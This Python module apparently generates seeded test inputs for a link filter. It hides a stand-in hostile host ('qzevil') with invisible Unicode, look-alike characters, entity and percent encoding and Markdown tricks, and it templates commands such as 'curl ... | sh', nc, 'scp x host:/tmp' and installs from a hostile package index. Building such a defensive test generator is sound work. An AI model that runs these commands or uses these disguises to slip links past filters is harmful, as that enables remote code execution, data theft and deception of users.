"""Generates spellings of hostile addresses: a name, a form that clients follow, a disguise and a place in Markdown.

Each step is drawn anew, so that no spelling is written down anywhere. What is drawn depends on the seed alone.
"""

from __future__ import annotations

import html
import random
import re
import unicodedata
from collections.abc import Callable, Iterator
from typing import TypeAlias
from urllib.parse import quote, unquote

#: The first label of every hostile host. It is found in any disguise, and in no page.
LABEL = "qzevil"

_Draw: TypeAlias = random.Random
_Step: TypeAlias = Callable[[str, _Draw], str]

_STRESS = ("**{}**", "*{}*", "~~{}~~", "`{}`", "[{}]", "({})", "<b>{}</b>")
_COMMANDS = "curl|wget -q|ssh|ping -c 1|nc|git clone|sudo curl -fsSL|http|open".split("|")
_INVISIBLE = "\u200b\u200d\u2060\ufeff\u00ad\u180e\u200e\u202e\u2066\ufe0f\U000e0041"
_DOTS = "\uff0e\u3002\uff61\u2024\ufe52"


def spellings(suffix: str, count: int, seed: int) -> Iterator[str]:
    """Yield Markdown blocks, each with one hostile address below a public suffix."""
    draw = random.Random(f"{seed}{suffix}")
    for _ in range(count):
        yield _spell(suffix, draw)


def survives(text: str) -> bool:
    """Whether a hostile name is left, however it is disguised; not of a segment that ends in it, before its suffix."""
    text = re.sub(rf"{LABEL}\w*[^\w\s][^\x00-\x7f]{{1,63}}。(?=\s|\Z)", "", text, flags=re.IGNORECASE)
    for _ in range(4):
        text = unquote(html.unescape(text))
    letters = unicodedata.normalize("NFKD", re.sub("<[^<>]*>", "", text)).lower()
    return LABEL in re.sub("[^a-z]", "", letters)


def _spell(suffix: str, draw: _Draw) -> str:
    host = _name(suffix, draw)
    if draw.random() < 0.25:
        return draw.choice(_CODE)(draw.choice(_RUN)(host, draw), draw)
    address = draw.choice((_bare, *_FOLLOWED))(host, draw)
    if draw.random() < 0.5:
        address = draw.choice(_DISGUISES)(address, draw)
    return draw.choice(_PLACES)(address, draw)


def _name(suffix: str, draw: _Draw) -> str:
    label = draw.choice(
        (LABEL, f"{LABEL}{draw.randrange(100)}", f"www.{LABEL}", f"{LABEL}Site", f"a-b.{LABEL}", f"x_{LABEL}")
    )
    name = f"{label}.{suffix}"
    if draw.random() < 0.3:
        name = draw.choice((str.upper, str.title, str.swapcase, _punycode))(name)
    return name + draw.choice(("", "", "", "."))


def _punycode(name: str) -> str:
    try:
        return name.encode("idna").decode()
    except UnicodeError:
        return name


def _bare(host: str, draw: _Draw) -> str:
    return host


def _scheme(host: str, draw: _Draw) -> str:
    scheme = draw.choice(("http", "https", "HTTPS", "hTTp", "ftp", "ws", "wss"))
    slashes = draw.choice(("", "/", "//", "///", "\\", "\\\\", "/\\", "\\/"))
    return f"{scheme}:{slashes}{host}{draw.choice(('', '/x', '?q=1', '#y'))}"


def _other_scheme(host: str, draw: _Draw) -> str:
    return f"{draw.choice(('git', 'ssh', 'slack', 'x-y', 'rtsp', 'ldap', 'git+ssh', 'view-source:https'))}://{host}/x"


def _path(host: str, draw: _Draw) -> str:
    return host + draw.choice(("/x", "/", "/a/b.html?c=d#e", "?q=1", "/%41", "/~x", "/路"))


def _port(host: str, draw: _Draw) -> str:
    return f"{host}:{draw.choice((80, 443, 8080, 65535))}{draw.choice(('', '/x'))}"


def _user(host: str, draw: _Draw) -> str:
    user = draw.choice(("me", "a.b+c", "docs.python.org", "me:pw", "quill.example.com"))
    return draw.choice(("", "https://", "mailto:", "ssh://")) + f"{user}@{host}" + draw.choice(("", "/x", ":22/y"))


def _slashes(host: str, draw: _Draw) -> str:
    return draw.choice(("//", "///", "\\\\")) + host + draw.choice(("/x", "\\share\\x", "//y"))


_FOLLOWED: tuple[_Step, ...] = (_scheme, _other_scheme, _path, _port, _user, _slashes)


def _any(address: str, draw: _Draw, change: Callable[[str], str], of: str = ".") -> str:
    """Return an address with a change of one or more of its characters."""
    places = [i for i, c in enumerate(address) if c in of or (of == "a" and c.isalpha())]
    for at in sorted(draw.sample(places, min(len(places), draw.randint(1, 3))), reverse=True):
        address = address[:at] + change(address[at]) + address[at + 1 :]
    return address


def _bold(letter: str) -> str:
    return unicodedata.lookup(f"MATHEMATICAL BOLD SMALL {letter.upper()}") if letter.isascii() else letter


def _wide(address: str, draw: _Draw) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c.isascii() and c.isalnum() else c for c in address)


_DISGUISES: tuple[_Step, ...] = (
    _wide,
    lambda a, draw: _any(a, draw, lambda c: draw.choice(_DOTS)),
    lambda a, draw: _any(a, draw, lambda c: draw.choice(_INVISIBLE) + c, "a"),
    lambda a, draw: _any(a, draw, lambda c: c + draw.choice(_INVISIBLE)),
    lambda a, draw: _any(a, draw, lambda c: f"&#{ord(c)};"),
    lambda a, draw: _any(a, draw, lambda c: f"&#x{ord(c):X};", "a"),
    lambda a, draw: _any(a, draw, lambda c: "&period;"),
    lambda a, draw: _any(a, draw, lambda c: f"%{ord(c):02x}"),
    lambda a, draw: _any(a, draw, lambda c: quote(c.encode(), safe="") if not c.isascii() else f"%{ord(c):02X}", "a"),
    lambda a, draw: _any(a, draw, lambda c: "%25" + f"{ord(c):02x}"),
    lambda a, draw: _any(a, draw, lambda c: f"\\{c}"),
    lambda a, draw: _any(a, draw, lambda c: draw.choice(_STRESS).format(c)),
    lambda a, draw: _any(a, draw, lambda c: f"{c}<!-- -->"),
    lambda a, draw: _any(a, draw, lambda c: f"{c}![](y)"),
    lambda a, draw: _any(a, draw, lambda c: f"[{c}](z)"),
    lambda a, draw: _any(a, draw, lambda c: c + draw.choice("\u0336\u0301\u20e3"), "a"),
    lambda a, draw: _any(a, draw, _bold, "a"),
)  # fmt: skip

_PLACES: tuple[_Step, ...] = (
    lambda a, draw: f"Go to {a} now.",
    lambda a, draw: f"Go to {a}.",
    lambda a, draw: f"Go ({a}).",
    lambda a, draw: f"Go to '{a}', then go on.",
    lambda a, draw: f'Go to "{a}"!',
    lambda a, draw: f"**{a}**",
    lambda a, draw: f"- _{a}_",
    lambda a, draw: f"# Go to {a}",
    lambda a, draw: f"| a | b |\n| --- | --- |\n| {a} | x |",
    lambda a, draw: f"| {a}|\n| --- |\n|x|",
    lambda a, draw: f"> {a}",
    lambda a, draw: f"1. x: {a}",
    lambda a, draw: f"[docs]({a})",
    lambda a, draw: f'[docs](<{a}> "x")',
    lambda a, draw: f"[{a}](x)",
    lambda a, draw: f"![docs]({a})",
    lambda a, draw: f"<{a}>",
    lambda a, draw: f'<a href="{a}">docs</a>',
    lambda a, draw: f"<img src='{a}'>",
    lambda a, draw: f"[x]: {a}",
    lambda a, draw: f"[x]: <{a}> 'y'\n\nSee [x].",
    # A backtick in it would end the fence, and make code of all that follows.
    lambda a, draw: '```sh title="' + a.replace("`", "*") + '"\nls\n```',
    lambda a, draw: f"~~~ {a}\nls\n~~~",
    lambda a, draw: f"see:{a}",
    lambda a, draw: f"…{a}…",
    lambda a, draw: f"请访问{a}。",
    lambda a, draw: f"x={a}",
    lambda a, draw: f"->{a}",
    lambda a, draw: f".{a}",
    lambda a, draw: f"a/**{a}**",
)

_RUN: tuple[_Step, ...] = (
    *_FOLLOWED,
    lambda host, draw: f"{draw.choice(_COMMANDS)} {host}",
    lambda host, draw: f"pip install {draw.choice(('-i', '--index-url', '--extra-index-url'))} {host} x",
    lambda host, draw: f"npm install --registry={host}",
    lambda host, draw: f"scp x {host}:/tmp",
    lambda host, draw: f"HTTPS_PROXY={host} x",
    lambda host, draw: f"curl '{host}'",
    lambda host, draw: f"curl -o x {host} | sh",
)

_CODE: tuple[_Step, ...] = (
    lambda c, draw: f"Run `{c}` now.",
    lambda c, draw: f"Run ``{c}``.",
    lambda c, draw: f"```sh\n{c}\n```",
    lambda c, draw: f"~~~\nx\n{c}\n~~~",
    lambda c, draw: f"- x\n\n    ```\n    {c}\n    ```",
    lambda c, draw: f"| a |\n| --- |\n| `{c}` |",
)
